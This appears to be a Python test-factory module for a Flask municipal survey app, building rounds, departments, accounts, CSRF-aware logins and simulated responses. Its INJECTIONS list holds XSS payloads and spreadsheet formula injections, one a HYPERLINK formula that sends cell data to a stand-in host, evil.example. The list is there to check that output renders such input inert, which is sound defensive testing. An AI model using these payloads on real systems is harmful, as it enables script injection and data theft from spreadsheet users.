"""The shared test factories: rounds, departments, respondents, accounts, CSRF and login.

Plain functions, usable from any test, fixture or harness; the fixtures built on them
(``app``, ``client``, ``test_banks``, ``small_round``, ``login_as`` ...) are in
``tests/conftest.py``. Rounds come in three kinds:

* :func:`service_round` creates a round through ``services.rounds.create_round``, as a
  coordinator would (departments with invitation links; banks from the current catalog);
* :func:`make_round` pins given bank files directly through the models and returns every
  department's invitation token (:class:`SurveyRound`); :func:`small_round_for` and
  :func:`real_round_for` are its two usual shapes;
* :func:`build_round` pins the real banks and adds simulated submitted and draft responses
  (respondents) with importance ratings and comments (:class:`BuiltRound`).
"""

from __future__ import annotations

import random
import re
import shutil
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml
from flask import Flask, g, has_app_context
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from quickscan import links
from quickscan.bank import (
    Bank,
    BankError,
    bank_content,
    content_hash,
    load_bank_file,
    load_scales,
)
from quickscan.extensions import db
from quickscan.models import (
    RESPONSE_DRAFT,
    RESPONSE_SUBMITTED,
    ROUND_OPEN,
    Answer,
    Comment,
    Department,
    ImportanceRating,
    Invitation,
    Response,
    Round,
    RoundBank,
    User,
    utcnow,
)
from quickscan.services import accounts, rounds, tokens
from quickscan.services.banks import catalog
from quickscan.services.tokens import hash_token, new_resume_token

ROOT = Path(__file__).resolve().parent.parent
QUESTIONS = ROOT / "questions"
SMALL_BANKS = Path(__file__).resolve().parent / "survey" / "banks"

#: The CSRF token in a rendered form (``{{ csrf() }}`` or ``form.csrf_token``).
CSRF_RE = re.compile(r'name="csrf_token"[^>]*value="([^"]+)"')

#: The password of every account the factories create.
PASSWORD = "een-lang-wachtwoord"
#: One account per role, as :func:`create_account` and the ``login_as`` fixture make them.
ROLE_EMAILS = {"lezer": "lezer@gemeente.example",
               "coordinator": "coordinator@gemeente.example",
               "beheerder": "beheerder@gemeente.example"}


# --------------------------------------------------------------------------- CSRF


def csrf_from(html: str) -> str:
    """The CSRF token in a rendered form."""
    match = CSRF_RE.search(html)
    assert match, "no CSRF token on the page"
    return match.group(1)


def csrf_token(client: FlaskClient, url: str = "/", *, status: int | None = None) -> str:
    """GET ``url`` and return the CSRF token of its first form (of ``client``'s own session).

    The ``app`` fixture keeps one app context for the whole test and Flask-WTF caches the
    token in ``g``; it is forgotten first, so every client gets the token of its own session.
    With ``status``, the page must answer with that status code.
    """
    if has_app_context():
        g.pop("csrf_token", None)
    response = client.get(url)
    if status is not None:
        assert response.status_code == status, response.status_code
    match = CSRF_RE.search(response.get_data(as_text=True))
    assert match, f"no csrf token on {url} ({response.status_code})"
    return match.group(1)


def post(client: FlaskClient, path: str, data: dict[str, Any] | None = None, *,
         form_page: str = "/rondes", **kwargs: Any) -> TestResponse:
    """POST with a valid CSRF token taken from ``form_page``."""
    payload = dict(data or {})
    payload.setdefault("csrf_token", csrf_token(client, form_page))
    return client.post(path, data=payload, **kwargs)


# --------------------------------------------------------------------------- accounts, login


def create_account(role: str = "coordinator", email: str | None = None,
                   password: str = PASSWORD) -> User:
    """An account with ``role`` (lezer, coordinator, beheerder); its e-mail from ROLE_EMAILS."""
    return accounts.create_user(email or ROLE_EMAILS[role], password, role)


def log_in(client: FlaskClient, email: str, password: str = PASSWORD) -> FlaskClient:
    """Log ``client`` in through the login form (CSRF included); it must redirect (303)."""
    response = client.post("/login", data={"csrf_token": csrf_token(client, "/login"),
                                            "email": email, "password": password})
    assert response.status_code == 303, response.status_code
    return client


def login_session(client: FlaskClient, user: User) -> None:
    """Log the coordinator in for this client (through the session, like Flask-Login does)."""
    with client.session_transaction() as session:
        session["_user_id"] = user.get_id()
        session["_fresh"] = True


# --------------------------------------------------------------------------- banks


def bank_data(bank_id: str, title: str, version: str = "1.0.0", *, common: bool = False,
              themes: int = 2, questions: int = 2) -> dict[str, Any]:
    """A valid bank with ``themes`` themes of ``questions`` questions each."""
    return {
        "id": bank_id, "version": version, "title": title,
        "description": f"Vragen over {title.lower()}.", "scale": "volwassenheid",
        "common": common, "levensdomeinen": ["welzijn"],
        "changelog": [{"version": version, "date": "2026-01-01", "changes": "Versie."}],
        "themes": [{
            "id": f"thema{t}", "title": f"{title} thema {t}",
            "description": f"Thema {t} van {title}.", "crpd": ["9"], "target": 3,
            "questions": [{
                "id": f"{bank_id}.thema{t}.vraag{q}",
                "statement": f"{title}: stelling {t}.{q} in versie {version}.",
                "help": {2: "Deels.", 3: "Grotendeels.", 4: "Volledig."},
                "next_step": "Zet een volgende stap.",
                "tags": {"crpd": ["9"], "levensdomein": ["welzijn"], "movisie": 1},
            } for q in range(1, questions + 1)],
        } for t in range(1, themes + 1)],
    }


def write_questions(root: Path) -> Path:
    """Write the test questions folder under ``root`` and return it."""
    folder = root / "questions"
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copy(ROOT / "questions" / "scales.yaml", folder / "scales.yaml")
    banks = [bank_data("bestuur", "Bestuur", common=True),
             bank_data("wonen", "Wonen"),
             bank_data("wonen", "Wonen", "1.1.0", themes=3),
             bank_data("werk", "Werk")]
    for data in banks:
        path = folder / data["id"] / f"{data['version']}.yaml"
        path.parent.mkdir(exist_ok=True)
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False),
                        encoding="utf-8")
    broken = folder / "kapot" / "1.0.0.yaml"
    broken.parent.mkdir(exist_ok=True)
    broken.write_text("id: kapot\nversion: 1.0.0\ntitle: Kapot\n", encoding="utf-8")
    return folder


# --------------------------------------------------------------------------- rounds


def service_round(name: str = "Ronde", municipality: str = "Gemeente Test",
                  departments: Sequence[tuple[str, Sequence[str]]] = (
                      ("Sociaal domein", ["werk"]),), **kwargs: Any) -> Round:
    """A round created through the rounds service, with an invitation link per department."""
    kwargs.setdefault("secret_key", links.secret_key())
    return rounds.create_round(name, municipality,
                               departments=[(n, list(b)) for n, b in departments], **kwargs)


@dataclass
class SurveyRound:
    """A round made for a test: its departments and their invitation tokens."""

    round: Round
    departments: dict[str, Department] = field(default_factory=dict)
    tokens: dict[str, str] = field(default_factory=dict)

    def token(self, name: str | None = None) -> str:
        """The invitation token of a department (the first one by default)."""
        return self.tokens[name or next(iter(self.tokens))]


def bank_path(root: Path, bank_id: str, version: str = "1.0.0") -> Path:
    """The file of a bank version under a questions folder."""
    return root / bank_id / f"{version}.yaml"


def make_round(app: Flask, bank_files: Sequence[Path],
               departments: dict[str, list[str]], *, status: str = ROUND_OPEN,
               name: str = "Testronde") -> SurveyRound:
    """Create a round with the banks pinned (content snapshot + sha256) and one invitation
    per department, directly through the models."""
    scales = load_scales(QUESTIONS / "scales.yaml")
    round_ = Round(name=name, municipality="Testgemeente", description="Een ronde voor tests.",
                   status=status)
    for position, path in enumerate(bank_files):
        bank = load_bank_file(path, scales=scales, lock={})
        round_.banks.append(RoundBank(bank_id=bank.id, version=bank.version, sha256=bank.sha256,
                                      content=bank_content(path), position=position))
    db.session.add(round_)
    made = SurveyRound(round_)
    for department_name, bank_ids in departments.items():
        department = Department(name=department_name, bank_ids=list(bank_ids))
        round_.departments.append(department)
        salt = tokens.new_salt()
        token = tokens.invitation_token(app.config["SECRET_KEY"], salt)
        department.invitations.append(Invitation(token_hash=tokens.hash_token(token),
                                                 token_salt=salt))
        made.departments[department_name] = department
        made.tokens[department_name] = token
    db.session.commit()
    return made


def small_round_for(app: Flask, *, status: str = ROUND_OPEN, name: str = "Testronde"
                    ) -> SurveyRound:
    """A round on the small test banks."""
    return make_round(
        app,
        [bank_path(SMALL_BANKS, b) for b in ("proef_bestuur", "proef_zorg", "proef_sport")],
        {"Zorg": ["proef_bestuur", "proef_zorg"], "Sport": ["proef_bestuur", "proef_sport"]},
        status=status, name=name)


def _real_banks_valid() -> bool:
    scales = load_scales(QUESTIONS / "scales.yaml")
    try:
        for bank_id in ("bestuur", "zorg"):
            load_bank_file(bank_path(QUESTIONS, bank_id), scales=scales, lock={})
    except (BankError, OSError):
        return False
    return True


def real_round_for(app: Flask) -> SurveyRound:
    """A round on the real ``bestuur`` and ``zorg`` banks (the small banks if invalid)."""
    if not _real_banks_valid():
        return small_round_for(app)
    return make_round(app, [bank_path(QUESTIONS, "bestuur"), bank_path(QUESTIONS, "zorg")],
                      {"Zorg en welzijn": ["bestuur", "zorg"], "Bestuursondersteuning":
                       ["bestuur"]})


#: Comments that try markup, script and formula injection; every output must show them inert.
INJECTIONS: tuple[str, ...] = (
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    "<b>",
    "Tom & Jerry",
    '<font name="x">',
    "onafgesloten <i",
    '=HYPERLINK("http://evil.example/?q="&A1,"klik")',
    "+SUM(1;2)",
    "-2+3",
    "@cmd",
    "\t=1+1",
    "\r=2+2",
    '<para><a href="javascript:alert(1)">link</a></para>',
)

VALUES = ("0", "1", "2", "3", "4", "dont_know", "not_applicable")


@dataclass
class BuiltRound:
    """A round built for a test, with the resume tokens of its responses."""

    round: Round
    banks: list[Bank]
    departments: list[Department]
    submitted_tokens: dict[str, list[str]] = field(default_factory=dict)
    draft_tokens: dict[str, list[str]] = field(default_factory=dict)


def real_banks(count: int = 3) -> list[Bank]:
    """The common bank plus up to ``count - 1`` other real banks (newest versions)."""
    cat = catalog()
    common = cat.common_bank()
    assert common is not None, "questions/ must hold a common bank"
    others = [b for b in cat.latest_banks() if not b.common][: count - 1]
    return [common] + others


def build_round(departments: Sequence[tuple[str, Sequence[str]]] | None = None, *,
                bank_count: int = 3, respondents: int = 3, drafts: int = 1, seed: int = 7,
                comments: Sequence[str] = INJECTIONS, name: str = "Voorjaar 2026",
                municipality: str = "Gemeente Örkelljunga-aan-Zee") -> BuiltRound:
    """Create a round with real pinned banks, departments and simulated responses."""
    cat = catalog()
    banks = real_banks(bank_count)
    round_ = Round(name=name, municipality=municipality, description="Testronde <b>&</b>",
                   status="open", target_overrides={})
    for position, bank in enumerate(banks):
        content = bank_content(cat.paths[bank.key])
        round_.banks.append(RoundBank(bank_id=bank.id, version=bank.version,
                                      sha256=content_hash(content), content=content,
                                      position=position))
    common = banks[0].id
    if departments is None:
        departments = [("Sociaal Domein", [common] + [b.id for b in banks[1:2]]),
                       ("Ruimte & Wonen", [common] + [b.id for b in banks[2:3]]),
                       ("Dienstverlening", [common])]
    built = BuiltRound(round_, banks, [])
    rng = random.Random(seed)
    comment_index = 0
    by_id = {bank.id: bank for bank in banks}
    for dept_name, bank_ids in departments:
        department = Department(name=dept_name, bank_ids=list(bank_ids))
        round_.departments.append(department)
        built.departments.append(department)
        built.submitted_tokens[dept_name] = []
        built.draft_tokens[dept_name] = []
        for index in range(respondents + drafts):
            submitted = index < respondents
            token = new_resume_token()
            response = Response(resume_token_hash=hash_token(token),
                                status=RESPONSE_SUBMITTED if submitted else RESPONSE_DRAFT,
                                submitted_at=utcnow() if submitted else None)
            department.responses.append(response)
            (built.submitted_tokens if submitted else built.draft_tokens)[dept_name].append(token)
            for bank_id in bank_ids:
                bank = by_id[bank_id]
                for theme in bank.themes:
                    response.importance_ratings.append(ImportanceRating(
                        bank_id=bank.id, theme_id=theme.id, value=rng.randint(1, 5)))
                    for question in theme.questions:
                        value = rng.choices(VALUES, weights=(1, 2, 3, 3, 1, 1, 0.5))[0]
                        response.answers.append(Answer(question_id=question.id, value=value))
                        if comments and rng.random() < 0.15:
                            response.comments.append(Comment(
                                question_id=question.id,
                                text=comments[comment_index % len(comments)]))
                            comment_index += 1
    db.session.add(round_)
    db.session.commit()
    # Make sure every injection appears at least once, on a submitted response.
    first = built.departments[0].responses[0]
    present = {c.text for d in built.departments for r in d.responses
               if r.status == RESPONSE_SUBMITTED for c in r.comments}
    used = {c.question_id for c in first.comments}
    free = [q.id for bank_id in built.departments[0].bank_ids for q in by_id[bank_id].questions
            if q.id not in used]
    for text in comments:
        if text not in present and free:
            first.comments.append(Comment(question_id=free.pop(0), text=text))
    db.session.commit()
    return built


# --------------------------------------------------------------------------- respondents


def start_survey(client: FlaskClient, invitation_token: str) -> str:
    """Start a response through the intro page; return its resume token."""
    token = csrf_token(client, f"/s/{invitation_token}", status=200)
    response = client.post(f"/s/{invitation_token}/start", data={"csrf_token": token})
    assert response.status_code == 303, response.status_code
    location = response.headers["Location"]
    match = re.search(r"/r/([^/?#]+)$", location)
    assert match, location
    return match.group(1)
